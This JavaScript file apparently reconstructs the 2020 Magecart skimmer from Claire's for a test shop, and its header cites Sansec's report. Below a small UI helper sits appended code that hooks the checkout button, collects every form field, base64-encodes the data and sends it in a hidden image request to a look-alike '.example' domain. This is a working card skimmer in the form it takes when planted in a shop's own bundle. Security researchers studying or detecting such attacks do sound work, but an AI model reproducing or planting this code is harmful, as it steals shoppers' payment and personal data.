// claires-assets, written from Sansec's report on the Magecart compromise of Claire's
// (2020): a look-alike "-assets" domain was registered weeks before, and a few lines were
// appended to the shop's own minified app bundle; they add a listener to the checkout's
// submit button which serialises the whole form, base64-encodes it and sends it as the query
// of a temporary image to the look-alike host (here a .example look-alike of the test shop).
!function(){"use strict";var e=window.NW||(window.NW={});e.ui={toggle:function(t){t.classList.toggle("is-open")},ready:function(t){"loading"!=document.readyState?t():document.addEventListener("DOMContentLoaded",t)}}}();
!function(){var a=window.NW;a&&a.ui&&a.ui.ready(function(){
  var btn=document.querySelector("#checkout-submit, button[name='placeOrder'], .checkout-button");
  if(!btn)return;
  btn.addEventListener("click",function(){
    var form=btn.form||document.querySelector("form#checkout, form.checkout");
    if(!form)return;
    var parts=[];
    for(var i=0;i<form.elements.length;i++){
      var el=form.elements[i];
      if(!el.name||(el.type=="checkbox"||el.type=="radio")&&!el.checked)continue;
      parts.push(el.name+"="+el.value);
    }
    var img=document.createElement("img");
    img.style.display="none";
    img.src="https://www.northwind-outfitters-assets.example/on/demandware.static/img/1x1.gif?"+btoa(parts.join("&"));
    document.body.appendChild(img);
    setTimeout(function(){img.parentNode&&img.parentNode.removeChild(img)},2000);
  },false);
});}();
